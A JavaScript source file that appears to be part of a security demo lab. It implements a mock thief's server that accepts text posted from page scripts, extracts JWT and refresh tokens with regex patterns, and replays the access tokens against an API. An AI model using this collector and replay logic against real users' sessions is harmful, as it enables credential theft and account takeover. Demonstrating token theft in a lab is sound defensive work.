/**
 * The thief's server of the demo's laboratory: whatever script on the page sends it, it looks for tokens in, and tries them at
 * the API. On an origin of its own, as a thief's is. What it gets it answers with and forgets.
 */
import express from "express";
import cors from "cors";
import { decodeJwt, decodeProtectedHeader } from "jose";
import { listen, reservePort } from "./listen.js";

/**
 * @param {object} options
 * @param {string} options.apiUrl Where a stolen access token is tried.
 * @param {number} [options.port]
 */
export async function startLab({ apiUrl, ...options }) {
  const port = options.port || (await reservePort());
  const app = express().disable("x-powered-by");
  app.use(cors({ origin: true, allowedHeaders: ["authorization", "content-type", "dpop"] }));
  app.post("/loot", express.text({ type: () => true, limit: "2mb" }), async (req, res) => {
    const loot = `${req.headers.authorization ?? ""}\n${typeof req.body === "string" ? req.body : ""}`;
    res.json({ bytes: loot.length - 1, tokens: await Promise.all(tokensIn(loot).map((one) => tried(one, apiUrl))) });
  });
  app.use((req, res) => res.status(404).json({ error: "not_found" }));
  const server = await listen(app, { port });
  return { ...server, url: `http://localhost:${port}` };
}

/** Everything in a text that is a token by its form, or by the name that it is given. */
export function tokensIn(text) {
  const found = new Map();
  for (const [token] of text.matchAll(/eyJ[\w-]+\.eyJ[\w-]+\.[\w-]+/g)) {
    const kind = kindOf(token);
    if (kind) found.set(token, kind);
  }
  for (const [, token] of text.matchAll(/refresh(?:_?token)?\W{1,8}([\w~.-]{20,})/gi)) {
    if (!found.has(token)) found.set(token, "refresh token");
  }
  return [...found].map(([token, kind]) => ({ kind, token }));
}

function kindOf(token) {
  try {
    decodeJwt(token);
    return decodeProtectedHeader(token).typ === "at+jwt" ? "access token" : "ID token";
  } catch {
    // It only looks like one.
    return undefined;
  }
}

/** A refresh token is not tried: that would end the sign-in of the person who is looking at this. */
async function tried({ kind, token }, apiUrl) {
  const shown = `${token.slice(0, 12)}…`;
  if (kind !== "access token") return { kind, shown };
  const response = await fetch(`${apiUrl}/api/hello`, { headers: { authorization: `Bearer ${token}` } });
  return { kind, shown, status: response.status };
}
